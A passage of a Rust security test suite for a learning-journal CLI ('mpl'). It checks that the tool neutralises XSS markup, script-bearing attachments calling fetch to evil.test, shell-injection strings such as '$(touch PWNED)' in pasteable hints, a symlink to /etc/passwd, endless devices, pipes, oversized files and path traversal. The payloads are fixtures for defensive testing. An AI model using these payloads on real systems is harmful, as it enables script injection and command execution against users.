        "<p><img src=x onerror=alert(1)></p>",
        "<a href=\"https://x/\"onmouseover=alert(1)\">x</a>",
        "<a href='javascript:alert(1)'>x</a>",
        "<svg/onload=alert(1)>",
        "<SCRIPT>x</SCRIPT>",
        "<iframe srcdoc=x>",
    ] {
        assert!(!live_markup(bad).is_empty(), "{bad}");
    }
    assert!(
        live_markup(
            "<p>&lt;img src=x onerror=alert(1)&gt; <img src=\"files/a-1.png\" alt=\"a\"></p>"
        )
        .is_empty()
    );
    assert_eq!(
        markup_in(&serde_json::json!({"a": ["x <b", "1 < 2", "‹img"], "b": "</p>"})),
        ["x <b", "</p>"]
    );
}

// ---------------------------------------------------------------------------------------
// 5. Attachments a browser could run
// ---------------------------------------------------------------------------------------

/// Attachments that run script when a browser opens them as a page, each calling
/// evil.test; and passive-looking ones holding HTML, in case a browser sniffs them.
fn active_attachments(env: &TestEnv) -> Vec<String> {
    let script = |what: &str| format!("<script>fetch('http://evil.test/{what}')</script>");
    let files: Vec<(&str, String)> = vec![
        (
            "evil.svg",
            format!(
                "<svg xmlns=\"http://www.w3.org/2000/svg\">{}<rect width=\"10\" height=\"10\"/></svg>",
                script("svg")
            ),
        ),
        (
            "page.html",
            format!(
                "<!doctype html><html><body>{}</body></html>",
                script("html")
            ),
        ),
        (
            "page.htm",
            format!("<html><body>{}</body></html>", script("htm")),
        ),
        (
            "page.xhtml",
            format!(
                "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>{}</body></html>",
                script("xhtml")
            ),
        ),
        (
            "data.xml",
            "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">fetch('http://evil.test/xml')</x:script>".to_string(),
        ),
        (
            "noext",
            format!("<html><body>{}</body></html>", script("noext")),
        ),
        (
            "readme.md",
            format!("<html><body>{}</body></html>", script("md")),
        ),
        (
            "table.csv",
            format!("<html><body>{}</body></html>", script("csv")),
        ),
        (
            "slides.key",
            format!("<html><body>{}</body></html>", script("key")),
        ),
        (
            "trace.log",
            format!("<html><body>{}</body></html>", script("log")),
        ),
        (
            "fake.png",
            format!("<html><body>{}</body></html>", script("png")),
        ),
        ("notes.pdf", "%PDF-1.4 harmless notes".to_string()),
    ];
    let mut args = vec!["evidence".to_string(), "add".into(), "Diagram".into()];
    for (name, text) in &files {
        std::fs::write(env.root.join(name), text).unwrap();
        args.push("--file".into());
        args.push(env.root.join(name).display().to_string());
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    env.ok(&args);
    files.iter().map(|(n, _)| n.to_string()).collect()
}

/// The `<a …>` start tags in `html` whose href is `href`.
fn links_to<'a>(
    tags: &'a [(String, Vec<(String, String)>)],
    href: &str,
) -> Vec<&'a Vec<(String, String)>> {
    tags.iter()
        .filter(|(name, attrs)| name == "a" && attrs.iter().any(|(a, v)| a == "href" && v == href))
        .map(|(_, attrs)| attrs)
        .collect()
}

/// Attack: an SVG or HTML attachment is published on the portfolio's site and linked as a
/// page, so its script runs on the site's origin when a visitor opens it.
#[test]
fn active_attachments_are_only_downloads_on_the_site() {
    let env = TestEnv::new();
    env.ok(&["init", "--name", "Ada"]);
    active_attachments(&env);
    env.ok(&["export", "--out", "site"]);
    let site = env.root.join("site");
    let files = names_in(&site.join("files"));
    assert_eq!(files.len(), 12, "{files:?}");
    for name in &files {
        let lower = name.to_ascii_lowercase();
        for active in [
            ".svg", ".html", ".htm", ".xhtml", ".xml", ".svgz", ".shtml", ".xht", ".mht",
        ] {
            assert!(!lower.ends_with(active), "files/{name} can run as a page");
        }
    }
    for (prefix, ending) in [
        ("evil-", ".svg.txt"),
        ("page-", ".html.txt"),
        ("notes-", ".pdf"),
    ] {
        assert!(
            files
                .iter()
                .any(|n| n.starts_with(prefix) && n.ends_with(ending)),
            "no files/{prefix}…{ending}: {files:?}"
        );
    }
    // Attachments are on the pages of their evidence, one folder down.
    let html: String = site_pages(&site)
        .iter()
        .map(|page| std::fs::read_to_string(page).unwrap())
        .collect::<Vec<_>>()
        .join("\n");
    let tags = start_tags(&html);
    for name in files.iter().filter(|n| n.ends_with(".txt")) {
        let links = links_to(&tags, &format!("../files/{name}"));
        assert!(!links.is_empty(), "files/{name} is not linked:\n{html}");
        for attrs in links {
            assert!(
                attrs.iter().any(|(a, _)| a == "download"),
                "files/{name} is linked without download: {attrs:?}"
            );
        }
    }
    // The SVG shows only as an image, where no script in it runs.
    let pictures: Vec<_> = tags
        .iter()
        .filter(|(name, _)| name == "img")
        .flat_map(|(_, attrs)| {
            attrs
                .iter()
                .filter(|(a, _)| a == "src")
                .map(|(_, v)| v.clone())
        })
        .collect();
    assert!(
        pictures
            .iter()
            .any(|src| src.starts_with("data:image/svg+xml,")),
        "the SVG is not shown as a picture: {pictures:?}"
    );
    let live = live_markup(&html);
    assert!(live.is_empty(), "{live:#?}");
    for embed in ["<iframe", "<object", "<embed"] {
        assert!(!html.contains(embed), "{embed}");
    }
}

/// Attack: the same attachments in a real browser: the portfolio page, and every file of the
/// site opened directly (as a visitor following a link or typing its address would). The
/// script in them must never run: the proxy never sees evil.test.
#[test]
fn active_attachments_never_run_in_chromium() {
    let Some(browser) = chromium() else {
        available("chromium", false, "apt-get install chromium");
        return;
    };
    let env = TestEnv::new();
    env.ok(&["init", "--name", "Ada"]);
    active_attachments(&env);
    env.ok(&["export", "--out", "site"]);
    let site = env.root.join("site");
    let profile = env.root.join("profile");
    // Pages Chromium shows get a virtual time budget, so that a request a script starts
    // is made before Chromium quits. A file it downloads instead may leave it waiting for
    // ever with a budget: those get none, and a timeout (a download runs nothing anyway).
    let shows = |name: &str| {
        name.ends_with(".html") && !name.ends_with(".xml.html") || name.ends_with(".txt")
    };
    let dump = |name: &str| {
        let mut args = vec!["--dump-dom".to_string()];
        if shows(name) {
            args.push("--virtual-time-budget=2000".to_string());
        } else {
            args.push("--timeout=5000".to_string());
        }
        args
    };

    // The harness sees a page that does call evil.test.
    let control = env.root.join("control.html");
    std::fs::write(
        &control,
        "<html><body><script>fetch('http://evil.test/control')</script></body></html>",
    )
    .unwrap();
    let recorder = Recorder::start();
    browse_within(
        &browser,
        &control,
        recorder.port,
        &profile,
        &dump("control.html"),
        60,
    )
    .expect("chromium showed the control page");
    let seen = page_requests(recorder.finish());
    assert!(
        seen.iter().any(|r| r.contains("evil.test/control")),
        "the proxy did not see the control page's request: {seen:?}"
    );

    let recorder = Recorder::start();
    let site_pages = site_pages(&site);
    let mut pages = site_pages.clone();
    pages.extend(
        names_in(&site.join("files"))
            .into_iter()
            .map(|n| site.join("files").join(n)),
    );
    for page in &pages {
        let name = page.file_name().unwrap().to_string_lossy();
        let shown = browse_within(
            &browser,
            page,
            recorder.port,
            &profile,
            &dump(&name),
            if shows(&name) { 60 } else { 8 },
        );
        if shows(&name) {
            assert!(shown.is_some(), "chromium did not show {name}");
        }
        // Whatever Chromium showed, it did not parse as a page with a script in it.
        if let Some(dom) = shown
            && !site_pages.contains(page)
        {
            assert!(!dom.contains("<script"), "{name} opens as a page:\n{dom}");
        }
    }
    let requests = page_requests(recorder.finish());
    assert!(
        requests.is_empty(),
        "the site asked the network for {requests:?}"
    );
}

// ---------------------------------------------------------------------------------------
// 6. Hints are safe to paste
// ---------------------------------------------------------------------------------------

/// The command between the first and the last backquote of the first `hint:` line holding
/// `needle`.
fn hint_command(stderr: &str, needle: &str) -> String {
    let line = stderr
        .lines()
        .find(|l| l.starts_with("hint:") && l.contains(needle))
        .unwrap_or_else(|| panic!("no hint with {needle:?}:\n{stderr}"));
    let start = line.find('`').expect("a command in backquotes") + 1;
    let end = line.rfind('`').unwrap();
    line[start..end].to_string()
}

/// Runs `command` with `sh -c` in `cwd` (git's identity set, as a user's would be).
fn paste(command: &str, cwd: &Path, home: &Path) -> std::process::Output {
    Command::new("sh")
        .arg("-c")
        .arg(command)
        .current_dir(cwd)
        .env("HOME", home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_AUTHOR_NAME", "Ada")
        .env("GIT_AUTHOR_EMAIL", "ada@example.com")
        .env("GIT_COMMITTER_NAME", "Ada")
        .env("GIT_COMMITTER_EMAIL", "ada@example.com")
        .output()
        .unwrap()
}

/// Attack: a journal path with spaces, `$(…)` and backquotes ends up in the hint shown when
/// git's index is locked; pasting the hint runs them. And a title about shells must never
/// reach a hint at all.
#[test]
fn the_hint_for_a_locked_index_is_safe_to_paste_and_works() {
    let mut env = TestEnv::new();
    let journal = env.root.join("my journal $(touch PWNED3) `touch PWNED4`");
    env.set("MPL_JOURNAL", journal.to_str().unwrap());
    env.ok(&["init", "--name", "Ada"]);
    // A git command of the user's holds the index: mpl refuses before writing anything.
    std::fs::write(journal.join(".git/index.lock"), "").unwrap();
    let title = "$(touch PWNED) and `touch PWNED2` and 'quotes' \"too\" ; touch PWNED5";
    let run = env.run(&["learn", title]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(!run.stderr.contains("PWNED)"), "{}", run.stderr);
    assert!(!journal.join("learned").exists(), "nothing is written");
    let command = hint_command(&run.stderr, "index.lock");
    let cwd = tempfile::tempdir().unwrap();
    let out = paste(&command, cwd.path(), &env.home);
    assert!(
        out.status.success(),
        "the hint's command failed: {command}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!journal.join(".git/index.lock").exists(), "{command}");
    for place in [cwd.path(), &env.root, &journal] {
        let pwned: Vec<String> = names_in(place)
            .into_iter()
            .filter(|n| n.starts_with("PWNED"))
            .collect();
        assert!(
            pwned.is_empty(),
            "pasting `{command}` ran {pwned:?} in {}",
            place.display()
        );
    }
    // With the lock gone, the same command works, and its title is committed as text.
    env.ok(&["learn", title]);
    let git = |args: &[&str]| {
        let mut git = Command::new("git");
        git.current_dir(&journal).env("HOME", &env.home);
        run_git(git, args)
    };
    assert_eq!(git(&["status", "--porcelain"]), "");
    assert!(
        git(&["log", "-1", "--format=%s"]).starts_with("learn: $(touch PWNED) and `touch PWNED2`")
    );
}

/// Attack: a remote path named like a command, refused by `sync`, whose hint (`git rm
/// --cached -- PATH`) a user pastes into a clone to take it out.
#[test]
fn the_hint_naming_a_refused_remote_path_is_safe_to_paste_and_works() {
    let remote = Remote::new();
    let plain = remote.plain();
    let name = "learned/$(touch PWNED) `touch PWNED2`; touch PWNED3";
    symlink("/etc/passwd", plain.join(name)).unwrap();
    remote.push("a link with a hostile name");
    let run = remote.journal.run(&["sync"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let line = run
        .stderr
        .lines()
        .find(|l| l.starts_with("hint:") && l.contains("git rm"))
        .unwrap_or_else(|| panic!("no git rm hint:\n{}", run.stderr));
    // The first command in backquotes: `git rm -r --cached -- PATH`.
    let start = line.find("`git rm").unwrap() + 1;
    let end = start
        + line[start..]
            .find("`, then")
            .expect("the end of the command");
    let command = &line[start..end];
    let out = paste(command, &plain, remote.dir.path());
    assert!(
        out.status.success(),
        "`{command}` failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let pwned: Vec<String> = names_in(&plain)
        .into_iter()
        .chain(names_in(&plain.join("learned")))
        .filter(|n| n.starts_with("PWNED"))
        .collect();
    assert!(pwned.is_empty(), "pasting `{command}` ran {pwned:?}");
    // The pasted command took exactly that path out; once pushed, sync goes through.
    std::fs::remove_file(plain.join(name)).unwrap();
    git_in(&plain, &["commit", "-q", "-m", "take the link out"]);
    git_in(&plain, &["push", "-q", "origin", "main"]);
    let run = remote.journal.run(&["sync"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        remote
            .journal
            .path("learned/2026/2026-11-25-first-lesson.md")
            .is_file()
    );
}

// ---------------------------------------------------------------------------------------
// 7. Unbounded and special input
// ---------------------------------------------------------------------------------------

/// Attack: an import or attachment from an endless device: mpl would read until memory
/// runs out.
#[test]
fn endless_devices_are_refused_quickly() {
    let env = TestEnv::new();
    env.ok(&["init"]);
    let commits = env.commit_count();
    let run = within(
        env.cmd(&["import", "jrnl", "/dev/zero"]),
        10,
        "mpl import jrnl /dev/zero",
    );
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("/dev/zero"), "{}", run.stderr);
    let run = within(
        env.cmd(&["evidence", "add", "x", "--file", "/dev/zero"]),
        10,
        "mpl evidence add --file /dev/zero",
    );
    assert_ne!(run.code, 0, "{}", run.stdout);
    assert!(run.stderr.contains("/dev/zero"), "{}", run.stderr);
    // Standard input that never ends.
    let mut cmd = env.cmd(&["learn"]);
    cmd.stdin(std::fs::File::open("/dev/zero").unwrap());
    let run = within(cmd, 10, "mpl learn < /dev/zero");
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(env.commit_count(), commits);
    assert_eq!(env.git(&["status", "--porcelain"]), "");
}

/// Attack: a named pipe given as a file, or planted in the journal, where a read would
/// block for ever.
#[test]
fn pipes_are_refused_without_hanging() {
    let env = TestEnv::new();
    env.ok(&["learn", "Before"]);
    let commits = env.commit_count();
    let fifo = env.root.join("pipe.json");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    let run = within(
        env.cmd(&["import", "jrnl", fifo.to_str().unwrap()]),
        10,
        "mpl import jrnl FIFO",
    );
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("pipe.json"), "{}", run.stderr);
    let run = within(
        env.cmd(&["evidence", "add", "x", "--file", fifo.to_str().unwrap()]),
        10,
        "mpl evidence add --file FIFO",
    );
    assert_ne!(run.code, 0, "{}", run.stdout);
    assert!(run.stderr.contains("pipe.json"), "{}", run.stderr);
    assert_eq!(env.commit_count(), commits);
    // Pipes where mpl reads its own files: an entry, the settings, a challenge.
    for planted in [
        "learned/2026/2026-11-25-pipe.md",
        "challenges/pipe.toml",
        "goals/pipe.md",
    ] {
        let path = env.path(planted);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        assert!(
            Command::new("mkfifo")
                .arg(&path)
                .status()
                .unwrap()
                .success()
        );
    }
    for args in [
        vec!["log"],
        vec!["doctor"],
        vec!["challenge", "list"],
        vec!["goal", "list"],
        vec!["export", "--format", "json"],
        vec!["search", "before"],
        vec!["stats"],
        vec!["nudge"],
    ] {
        let run = within(
            env.cmd(&args),
            10,
            &format!("mpl {args:?} with pipes in the journal"),
        );
        assert!(run.code == 0 || run.code == 1, "{args:?}: {}", run.stderr);
    }
    let run = within(env.cmd(&["log"]), 10, "mpl log");
    assert!(run.stdout.contains("Before"), "{}", run.stdout);
    assert!(run.stderr.contains("2026-11-25-pipe.md"), "{}", run.stderr);
    let run = within(env.cmd(&["doctor"]), 10, "mpl doctor");
    assert_eq!(run.code, 1);
    assert!(run.stdout.contains("2026-11-25-pipe.md"), "{}", run.stdout);
    // mpl.toml as a pipe.
    std::fs::remove_file(env.path("mpl.toml")).unwrap();
    assert!(
        Command::new("mkfifo")
            .arg(env.path("mpl.toml"))
            .status()
            .unwrap()
            .success()
    );
    let run = within(env.cmd(&["log"]), 10, "mpl log with mpl.toml a pipe");
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("mpl.toml"), "{}", run.stderr);
}

/// Attack: a huge (sparse, so cheap to make) file to import or attach: refused by its size
/// before it is read.
#[test]
fn oversized_files_are_refused_naming_the_limit() {
    let env = TestEnv::new();
    env.ok(&["init"]);
    let big = env.root.join("big.json");
    std::fs::File::create(&big)
        .unwrap()
        .set_len(100 * 1024 * 1024)
        .unwrap();
    let run = within(
        env.cmd(&["import", "jrnl", big.to_str().unwrap()]),
        10,
        "mpl import jrnl BIG",
    );
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("MiB"), "{}", run.stderr);
    assert!(run.stderr.contains("big.json"), "{}", run.stderr);
    let run = within(
        env.cmd(&["evidence", "add", "x", "--file", big.to_str().unwrap()]),
        10,
        "mpl evidence add --file BIG",
    );
    assert_ne!(run.code, 0);
    assert!(run.stderr.contains("25 MiB"), "{}", run.stderr);
    // A huge entry planted in the journal is skipped, not read whole.
    let planted = env.path("learned/2026/2026-11-25-huge.md");
    std::fs::create_dir_all(planted.parent().unwrap()).unwrap();
    std::fs::File::create(&planted)
        .unwrap()
        .set_len(100 * 1024 * 1024)
        .unwrap();
    let run = within(env.cmd(&["log"]), 10, "mpl log with a 100 MiB entry");
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("2026-11-25-huge.md"), "{}", run.stderr);
}

// ---------------------------------------------------------------------------------------
// 8. `--out` paths that lead back into the journal
// ---------------------------------------------------------------------------------------

/// Attack: an `--out` path that looks like it leaves the journal but lands in it once the
/// missing folders are made (`some/missing/../../JOURNAL/site`), or goes through a link to
/// it: the next sync would commit and publish the site with the journal.
#[test]
fn an_out_path_that_lands_in_the_journal_is_refused() {
    let mut env = TestEnv::new();
    env.ok(&["learn", "Public lesson"]);
    let journal_rel = env
        .journal()
        .strip_prefix(&env.root)
        .unwrap()
        .display()
        .to_string();
    symlink(env.journal(), env.root.join("jlink")).unwrap();
    symlink(env.journal().join("learned"), env.root.join("learned-link")).unwrap();
    // `deep/../../site` is `site` beside the journal to the eye, but `..` from inside a link
    // goes up from where the link points: journal/learned/2026/../../site.
    symlink(env.journal().join("learned/2026"), env.root.join("deep")).unwrap();
    let mut failures = Vec::new();
    for (format, out) in [
        ("html", format!("some/missing/../../{journal_rel}/site")),
        (
            "json",
            format!("some/missing/../../{journal_rel}/portfolio.json"),
        ),
        ("markdown", format!("other/../{journal_rel}/p.md")),
        ("html", "jlink/site".to_string()),
        ("html", "jlink".to_string()),
        ("html", "learned-link/site".to_string()),
        ("jsonresume", "jlink/resume.json".to_string()),
        ("html", "deep/../../site".to_string()),
        ("json", "deep/../../portfolio.json".to_string()),
        ("html", format!("{}/site", env.journal().display())),
    ] {
        let run = env.run(&["export", "--format", format, "--out", &out]);
        if run.code != 2 {
            failures.push(format!(
                "--format {format} --out {out}: exit {}: {}",
                run.code, run.stderr
            ));
        }
        let status = env.git(&["status", "--porcelain", "--ignored"]);
        let stray: Vec<&str> = status.lines().filter(|l| !l.ends_with(".mpl/")).collect();
        if !stray.is_empty() {
            failures.push(format!("--out {out} wrote into the journal: {stray:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(!env.journal().join("site").exists());
    // The journal opened through a link, its real path given as --out.
    let real = format!("{}/site", env.journal().display());
    let through_link = env.root.join("jlink").display().to_string();
    env.set("MPL_JOURNAL", &through_link);
    let run = env.run(&["export", "--out", &real]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(!env.journal().join("site").exists());
}

// ---------------------------------------------------------------------------------------
// 9. Modes
// ---------------------------------------------------------------------------------------

/// Attack: a shared machine. Attachment copies kept their source mode (0644, or 0755) in the
/// journal and on the exported site, readable by every user; the site must be the owner's
/// alone until they publish it.
#[test]
fn attachment_copies_and_the_site_are_the_owners_alone() {
    let env = TestEnv::new();
    env.ok(&["init"]);
    let readable = env.root.join("report.pdf");
    std::fs::write(&readable, "%PDF-1.4 report").unwrap();
    std::fs::set_permissions(&readable, std::fs::Permissions::from_mode(0o644)).unwrap();
    let executable = env.root.join("tool.sh");
    std::fs::write(&executable, "#!/bin/sh\necho hi\n").unwrap();
    std::fs::set_permissions(&executable, std::fs::Permissions::from_mode(0o755)).unwrap();
    let picture = env.root.join("chart.png");
    std::fs::write(&picture, b"\x89PNG\r\n\x1a\nnot really").unwrap();
    std::fs::set_permissions(&picture, std::fs::Permissions::from_mode(0o666)).unwrap();
    // Run under a permissive umask, as a user's shell might have.
    let permissive = |args: &[&str]| {
        let mine = env.cmd(args);
        let mut sh = Command::new("sh");
        sh.arg("-c")
            .arg("umask 000; exec \"$0\" \"$@\"")
            .arg(mine.get_program())
            .args(mine.get_args())
            .env_clear()
            .current_dir(&env.root);
        for (k, v) in mine.get_envs() {
            if let Some(v) = v {
                sh.env(k, v);
            }
        }
        let out = sh.output().unwrap();
        assert!(
            out.status.success(),
            "mpl {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    permissive(&[
        "evidence",
        "add",
        "Report",
        "--file",
        readable.to_str().unwrap(),
        "--file",
        executable.to_str().unwrap(),
        "--file",
        picture.to_str().unwrap(),
    ]);
    permissive(&["export", "--out", "site"]);
    permissive(&["export", "--format", "json", "--out", "portfolio.json"]);
    permissive(&["export", "--format", "markdown", "--out", "portfolio.md"]);
    assert_eq!(walk(&env.path("attachments")).len(), 3);
    let mut failures = Vec::new();
    for (path, _) in walk(&env.path("attachments")) {
        if mode(&path) != 0o600 {
            failures.push(format!("{} is {:o}", path.display(), mode(&path)));
        }
    }
    let site = env.root.join("site");
    for dir in [site.clone(), site.join("files")] {
        if mode(&dir) != 0o700 {
            failures.push(format!("{} is {:o}", dir.display(), mode(&dir)));
        }
    }
    let written = walk(&site);
    assert!(written.len() >= 4, "{written:?}");
    for (path, _) in written {
        if mode(&path) != 0o600 {
            failures.push(format!("{} is {:o}", path.display(), mode(&path)));
        }
    }
    for file in ["portfolio.json", "portfolio.md"] {
        let path = env.root.join(file);
        if mode(&path) != 0o600 {
            failures.push(format!("{file} is {:o}", mode(&path)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
